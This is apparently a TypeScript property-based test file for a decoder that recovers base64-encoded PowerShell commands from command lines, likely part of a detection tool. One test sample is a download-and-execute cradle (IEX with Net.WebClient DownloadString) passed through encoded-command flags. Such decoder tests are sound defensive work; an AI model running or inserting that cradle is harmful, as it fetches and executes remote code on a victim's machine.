import assert from 'node:assert/strict';
import { test } from 'node:test';
import fc from 'fast-check';
import { decodeCommands } from './decode-command.ts';

const encode = (text: string): string => Buffer.from(text, 'utf16le').toString('base64');

test('an encoded command is read beside any form of its parameter', () => {
  const command = 'IEX (New-Object Net.WebClient).DownloadString("http://x")';
  for (const flag of ['-enc', '-e', '-EC', '-EncodedCommand', '/encod'])
    assert.deepEqual(decodeCommands(`powershell.exe -NoP ${flag} "${encode(command)}"`), [command]);
  fc.assert(
    fc.property(fc.stringMatching(/^[ -~]{4,200}$/), (text) => {
      assert.deepEqual(decodeCommands(`powershell -enc ${encode(text)}`), [text]);
    }),
  );
});

test('what is no command, no text or too long is left alone, and nothing throws', () => {
  for (const line of ['cmd /c dir', 'x -e AAAA', 'gcc -e QUJDREVGR0g=', `x -exec ${encode('dir c:')}`])
    assert.deepEqual(decodeCommands(line), []);
  assert.deepEqual(decodeCommands(`x -enc ${encode('a'.repeat(9000))}`), []);
  assert.equal(decodeCommands(`-enc ${encode('dir c:')} `.repeat(9)).length, 3);
  fc.assert(fc.property(fc.string(), (text) => void decodeCommands(`-enc ${text}`)));
});
